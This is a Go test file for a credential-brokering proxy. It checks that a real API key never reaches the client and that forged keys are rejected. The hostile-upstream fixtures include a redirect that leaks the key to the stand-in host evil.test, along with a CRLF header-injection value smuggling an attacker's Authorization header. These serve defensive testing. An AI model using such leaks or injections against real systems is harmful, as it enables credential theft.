package broker

import (
	"compress/gzip"
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"

	"ringfence.dev/ringfence/internal/credentials/modelapi"
	"ringfence.dev/ringfence/internal/credentials/serviceapi"
	"ringfence.dev/ringfence/internal/journal"
)

const genuine = "sk-ant-api03-REALREALREALREALREALREALREAL"

// fixed is a source that has one credential.
type fixed struct{ value string }

func (f fixed) Get(context.Context) (Credential, error) {
	return Credential{Secret: "test", Value: f.value, Kind: "key"}, nil
}
func (fixed) Stale(Credential) {}

// modelStand is the API of a model in front of an upstream.
func modelStand(t *testing.T, upstream http.Handler) (at string, phantom Phantom) {
	t.Helper()
	server := httptest.NewServer(upstream)
	t.Cleanup(server.Close)
	u, err := url.Parse(server.URL)
	if err != nil {
		t.Fatal(err)
	}
	phantom = NewPhantom("sk-ant-api03-", 108)
	m := Model{API: modelapi.Anthropic, Name: "test", Upstream: u, Phantom: phantom, Source: fixed{genuine}, Allow: usual,
		Transport: Transport(Direct, nil, silent), Record: silent}
	_, plain, _ := stand(t, nil, []Site{{Prefix: "/anthropic", Handler: m.Handler()}})
	return plain, phantom
}

// say sends one request and returns every byte of the answer.
func say(t *testing.T, at, key string) string {
	t.Helper()
	c, err := net.Dial("tcp", at)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	body := `{"model":"m","messages":[]}`
	fmt.Fprintf(c, "POST /anthropic/v1/messages HTTP/1.1\r\nHost: 127.0.0.1:809\r\nX-Api-Key: %s\r\nContent-Type: application/json\r\nTE: trailers\r\n"+
		"Accept-Encoding: gzip\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%s", key, len(body), body)
	b, err := io.ReadAll(c)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// However an upstream sends the credential back, it does not come in.
func TestReflection(t *testing.T) {
	ways := map[string]http.HandlerFunc{
		"body": func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, r.Header.Get("X-Api-Key")) },
		"base64": func(w http.ResponseWriter, r *http.Request) {
			fmt.Fprint(w, base64.StdEncoding.EncodeToString([]byte("k="+r.Header.Get("X-Api-Key"))))
		},
		"header": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("X-Echo", "key "+r.Header.Get("X-Api-Key"))
		},
		"header name": func(w http.ResponseWriter, r *http.Request) { w.Header().Set(r.Header.Get("X-Api-Key"), "1") },
		"cookie": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Set-Cookie", "k="+r.Header.Get("X-Api-Key"))
		},
		"redirect": func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "https://evil.test/"+r.Header.Get("X-Api-Key"), http.StatusTemporaryRedirect)
		},
		"error": func(w http.ResponseWriter, r *http.Request) { http.Error(w, "bad key "+r.Header.Get("X-Api-Key"), 500) },
		"early answer": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Link", r.Header.Get("X-Api-Key"))
			w.WriteHeader(103)
			w.Header().Del("Link")
		},
		"trailer": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Trailer", "X-Echo")
			io.WriteString(w, "x")
			w.(http.Flusher).Flush()
			w.Header().Set("X-Echo", r.Header.Get("X-Api-Key"))
			w.Header().Set(http.TrailerPrefix+"X-More", r.Header.Get("X-Api-Key"))
		},
		"in pieces": func(w http.ResponseWriter, r *http.Request) {
			for _, c := range r.Header.Get("X-Api-Key") {
				fmt.Fprint(w, string(c))
				w.(http.Flusher).Flush()
			}
		},
		"gzip": func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Encoding", "gzip")
			z := gzip.NewWriter(w)
			fmt.Fprint(z, r.Header.Get("X-Api-Key"))
			z.Close()
		},
		"gzip twice": func(w http.ResponseWriter, r *http.Request) {
			w.Header()["Content-Encoding"] = []string{"identity", "gzip"}
			z := gzip.NewWriter(w)
			fmt.Fprint(z, r.Header.Get("X-Api-Key"))
			z.Close()
		},
	}
	for name, way := range ways {
		t.Run(name, func(t *testing.T) {
			sent := false
			at, phantom := modelStand(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				sent = r.Header.Get("X-Api-Key") == genuine
				way(w, r)
			}))
			got := say(t, at, string(phantom))
			if !sent {
				t.Fatalf("the upstream did not get the real credential: %s", got)
			}
			for _, secret := range []string{genuine, base64.StdEncoding.EncodeToString([]byte("k=" + genuine))[4:40]} {
				if strings.Contains(strings.ToLower(got), strings.ToLower(secret)) {
					t.Errorf("it came in:\n%s", got)
				}
			}
			if strings.Contains(got, "\x1f\x8b") {
				t.Error("a compressed answer came in unread")
			}
		})
	}
}

// A key that the client brought along reaches nobody, and nobody's is used for it.
func TestForeignKey(t *testing.T) {
	reached := 0
	at, phantom := modelStand(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { reached++ }))
	for _, key := range []string{"sk-ant-api03-ATTACKER", "", string(phantom) + "x", string(phantom) + "\r\nAuthorization: Bearer sk-ant-ATTACKER"} {
		if got := say(t, at, key); !strings.HasPrefix(got, "HTTP/1.1 401 ") || !strings.Contains(got, "not the one of this session") {
			t.Errorf("%q: %s", key, got)
		}
	}
	if reached != 0 {
		t.Errorf("the upstream was reached %d times", reached)
	}
	if got := say(t, at, string(phantom)); !strings.HasPrefix(got, "HTTP/1.1 200 ") || reached != 1 {
		t.Errorf("the phantom: %s", got)
	}
}

// Tokens of another kind that a forge puts into honest answers do not come in.
func TestBlot(t *testing.T) {
	const in = `{"id":1,"temp_clone_token":"AB\"C","x":{"runners_token" : "GR1348"},"name":"temp_clone_token"}`
	const want = `{"id":1,"temp_clone_token":"*****","x":{"runners_token" : "******"},"name":"temp_clone_token"}`
	for kind, wrap := range map[string]string{"application/json; charset=utf-8": "%s", "application/javascript; charset=utf-8": "/**/f({\"data\":%s})", "text/JavaScript": "%s",
		"text/plain": "%s", "": "%s", "application/vnd.new": "%s", "application/xml": "<a>%s</a>", "image/svg+xml": "%s", "image/svg+xml; x": "%s", "application/vnd.github.raw+json": "%s"} {
		in, want := fmt.Sprintf(wrap, in), fmt.Sprintf(wrap, want)
		if got, err := blotted(kind, in, serviceapi.Decision{}); err != nil || got != want {
			t.Errorf("%s: %s %v", kind, got, err)
		}
	}
	// Forms besides JSON, and tokens by their look.
	for in, want := range map[string]string{
		`{:id=>1, :runners_token=>"GR13489", :x=>1}`:              `{:id=>1, :runners_token=>"*******", :x=>1}`,
		`{id: 1, runners_token: "GR13489", x: 1}`:                 `{id: 1, runners_token: "*******", x: 1}`,
		"runners_token: GR13489\nx: 1\n":                          "runners_token: *******\nx: 1\n",
		"<runners_token>GR13489</runners_token>":                  "<runners_token>*******</runners_token>",
		"a=1&temp_clone_token=ABC&b=2":                            "a=1&temp_clone_token=***&b=2",
		"new: glpat-abcdefghij0123456789.":                        "new: " + strings.Repeat("*", 27),
		"\"ghs_abcdefghijklmnopqrstuvwxyz0123456789\"":            "\"" + strings.Repeat("*", 40) + "\"",
		"x glrt-t1_abcdefghij0123456789 y":                        "x " + strings.Repeat("*", 28) + " y",
		`{"title":"how to set runners_token in general","id":7}`:  `{"title":"how to set runners_token in general","id":7}`,
		"the commit ghp is not one, and glpat-short is none, too": "the commit ghp is not one, and glpat-short is none, too",
	} {
		for _, kind := range []string{"text/plain", "application/json", "text/html; charset=UTF-8"} {
			if got, err := blotted(kind, in, serviceapi.Decision{}); err != nil || got != want {
				t.Errorf("%s: %s\nis %s %v", kind, in, got, err)
			}
		}
	}
}

// What cannot be read is refused, unless it is a file of a repository or an archive.
func TestBlotRefusesWhatItCannotRead(t *testing.T) {
	const wide = "\x00{\x00}"
	file := serviceapi.Decision{Allow: true, Files: true}
	for _, c := range []struct {
		kind, in string
		d        serviceapi.Decision
		passes   bool
	}{
		{"application/json; charset=utf-16", "{}", serviceapi.Decision{}, false},
		{"application/json; charset=utf-7", "{}", serviceapi.Decision{}, false},
		{"text/plain; charset=UTF-32", "{}", serviceapi.Decision{}, false},
		{"application/json; charset=utf-8; charset=utf-7", "{}", serviceapi.Decision{}, false},
		{"application/json", wide, serviceapi.Decision{}, false},
		{"application/json", "\xff\xfe{\x00}\x00", serviceapi.Decision{}, false},
		{"text/plain", "\xfe\xff", serviceapi.Decision{}, false},
		{"text/plain; charset=utf-16", wide, file, true},
		{"application/json", wide, file, false},
		{"application/vnd.github.raw+json; charset=utf-8", wide, file, true},
		{"application/vnd.github.raw+json; charset=utf-8", wide, serviceapi.Decision{}, false},
		{"application/zip", "PK\x03\x04\x00", serviceapi.Decision{}, true},
		{"application/octet-stream", wide, serviceapi.Decision{}, true},
		{"text/plain", "glpat-abcdefghij0123456789", file, true},
		{"text/plain", strings.Repeat("x", 17<<20), serviceapi.Decision{}, false},
		{"text/plain", strings.Repeat("x", 17<<20), file, true},
	} {
		got, err := blotted(c.kind, c.in, c.d)
		if (err == nil) != c.passes || c.passes && got != c.in {
			t.Errorf("%s %.20q files %v: %.40q %v", c.kind, c.in, c.d.Files, got, err)
		}
	}
}

func blotted(kind, in string, d serviceapi.Decision) (string, error) {
	r := httptest.NewRequest("GET", "/", nil)
	r = r.WithContext(context.WithValue(r.Context(), verdict{}, d))
	resp := &http.Response{StatusCode: 200, Request: r, Header: http.Header{"Content-Type": {kind}}, ContentLength: int64(len(in)), Body: io.NopCloser(strings.NewReader(in))}
	if err := blot(resp); err != nil {
		return "", err
	}
	got, err := io.ReadAll(resp.Body)
	return string(got), err
}

func silent(journal.Record) error { return nil }

// usual is what policy allows of a provider by itself.
func usual() modelapi.Allow { return modelapi.Default }
